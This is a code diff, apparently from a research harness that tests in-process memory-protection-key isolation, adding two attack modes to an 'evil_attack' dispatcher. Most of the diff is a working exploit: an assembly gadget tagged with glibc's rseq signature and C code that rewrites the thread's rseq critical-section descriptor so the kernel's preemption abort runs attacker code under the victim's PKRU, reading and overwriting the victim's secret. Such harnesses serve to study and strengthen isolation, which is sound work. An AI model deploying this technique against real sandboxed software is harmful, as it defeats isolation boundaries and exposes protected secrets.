@@ -27,10 +27,47 @@
 #include <sys/ptrace.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/rseq.h>
 #include <sys/uio.h>
 #include <unistd.h>
 
 #include "sysattack.h"
+
+/*
+ * rseq: the gadget the kernel jumps to (rseq's abort_ip) when this thread is
+ * preempted inside the critical section that 'evil' names in glibc's rseq
+ * area (TLS, key 0) while it runs in 'app'. The kernel checks only that the
+ * 4 bytes before abort_ip are the registered signature (glibc's RSEQ_SIG),
+ * and sets the IP, keeping the interrupted PKRU: 'evil's code runs with
+ * 'app's. It reads app's secret into a key-0 page, overwrites it, and goes
+ * back to app_busy's caller (the gate) through the first code address on
+ * app's stack above it. The page is at a fixed address (EVIL_RSEQ_PAGE).
+ */
+#define EVIL_RSEQ_PAGE 0x7e5e00000000UL
+__asm__(".text\n"
+	".p2align 4\n"
+	".long 0x53053053\n" /* RSEQ_SIG */
+	"evil_rseq_gadget:\n"
+	"movabsq $0x7e5e00000000, %rdi\n"
+	"movq 0(%rdi), %rdx\n" /* target: app's secret */
+	"movq (%rdx), %rax\n"  /* read with app's PKRU */
+	"movq %rax, 8(%rdi)\n"
+	"movq $666, (%rdx)\n" /* and write it */
+	"xorl %ecx, %ecx\n"
+	"rdpkru\n"
+	"movq %rax, 24(%rdi)\n"
+	"movq $1, 16(%rdi)\n"
+	"movq %rsp, %rsi\n"
+	"1: movq (%rsi), %rax\n"
+	"cmpq 32(%rdi), %rax\n"
+	"jb 2f\n"
+	"cmpq 40(%rdi), %rax\n"
+	"jb 3f\n"
+	"2: addq $8, %rsi\n"
+	"jmp 1b\n"
+	"3: leaq 8(%rsi), %rsp\n"
+	"jmp *%rax\n");
+extern char evil_rseq_gadget[];
 
 /* Reads or writes the application's secret through a /proc mem file. */
 static long through_proc(const char *path, uintptr_t target, long secret, int write)
@@ -409,6 +446,111 @@ static long uprobe(uintptr_t target, long secret)
 	return found;
 }
 
+static int text_range(struct dl_phdr_info *info, size_t size, void *data)
+{
+	uintptr_t *r = data;
+
+	(void)size;
+	for (int i = 0; i < info->dlpi_phnum; i++)
+		if (info->dlpi_phdr[i].p_type == PT_LOAD && (info->dlpi_phdr[i].p_flags & PF_X)) {
+			r[0] = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr;
+			r[1] = r[0] + info->dlpi_phdr[i].p_memsz;
+		}
+	return 1; /* the image */
+}
+
+struct rseq_job {
+	volatile uint64_t *page;
+	struct rseq *area;
+	struct rseq_cs *cs;
+	volatile int stop;
+};
+
+/* Keeps the critical section named while the main thread is in app, and keeps a CPU busy. */
+static void *rseq_helper(void *arg)
+{
+	struct rseq_job *j = arg;
+
+	while (!j->stop)
+		if (j->page[6] && !j->page[2])
+			__atomic_store_n(&j->area->rseq_cs, (uint64_t)(uintptr_t)j->cs,
+					 __ATOMIC_RELAXED);
+	return NULL;
+}
+
+static void *spin(void *arg)
+{
+	struct rseq_job *j = arg;
+
+	while (!j->stop)
+		;
+	return NULL;
+}
+
+/*
+ * No system call the filter sees: 'evil' writes glibc's rseq area of its
+ * thread (TLS, key 0) so that the kernel, when it preempts the thread in
+ * app, moves it to evil_rseq_gadget with app's PKRU. 1 when the gadget
+ * read app's secret; 0 with errno set otherwise.
+ */
+static long rseq_hijack(uintptr_t target, long secret, int own)
+{
+	if (!__rseq_size && !own) {
+		errno = ENOSYS;
+		return 0;
+	}
+	volatile uint64_t *page = mmap((void *)EVIL_RSEQ_PAGE, 4096, PROT_READ | PROT_WRITE,
+				       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	if ((uintptr_t)page != EVIL_RSEQ_PAGE) {
+		errno = EADDRINUSE;
+		return 0;
+	}
+	uintptr_t text[2] = {0, 0};
+	dl_iterate_phdr(text_range, text);
+	page[0] = target;
+	page[4] = text[0];
+	page[5] = text[1];
+	struct rseq_cs *cs = (struct rseq_cs *)(page + 8);
+	cs->version = 0;
+	cs->flags = 0;
+	/* Everything from the image's text up to the gadget: app's code is there. */
+	cs->start_ip = text[0];
+	cs->post_commit_offset = (uintptr_t)evil_rseq_gadget - text[0];
+	cs->abort_ip = (uintptr_t)evil_rseq_gadget;
+	static struct rseq_job j;
+	j.page = page;
+	j.area = (struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset);
+	if (own) {
+		/* glibc's registration undone (if any), and one of evil's own, in a key-0 page. */
+		if (__rseq_size)
+			syscall(SYS_rseq, j.area, 32, RSEQ_FLAG_UNREGISTER, 0x53053053);
+		j.area = (struct rseq *)(page + 64);
+		if (syscall(SYS_rseq, j.area, 32, 0, 0x53053053))
+			return 0;
+	}
+	j.cs = cs;
+	pthread_t h, s;
+	if (pthread_create(&h, NULL, rseq_helper, &j) || pthread_create(&s, NULL, spin, &j))
+		return 0;
+	for (int i = 0; i < 20 && !page[2]; i++) {
+		page[6] = 1;
+		app_busy();
+		page[6] = 0;
+	}
+	j.stop = 1;
+	pthread_join(h, NULL);
+	pthread_join(s, NULL);
+	j.area->rseq_cs = 0;
+	unsigned pkru;
+	__asm__ volatile("rdpkru" : "=a"(pkru) : "c"(0) : "rdx");
+	printf("rseq: gadget ran: %d, read %#lx, PKRU there %#lx (evil's %#lx)\n", (int)page[2],
+	       (unsigned long)page[1], (unsigned long)page[3], (unsigned long)pkru);
+	if (page[2] && (long)page[1] == secret)
+		return 1;
+	errno = ENOENT;
+	return 0;
+}
+
 static void *relay(void *arg)
 {
 	app_hold((int)(intptr_t)arg);
@@ -572,6 +714,10 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 		r = syscall(SYS_init_module, image, sizeof(image), "");
 		break;
 	}
+	case 37:
+		return rseq_hijack(target, secret, 0);
+	case 38:
+		return rseq_hijack(target, secret, 1);
 	case 29: /* every stack of every pool free: the next thread gets one in use */
 		for (uint64_t c = 0; c < 16; c++) {
 			size_t n = 0;
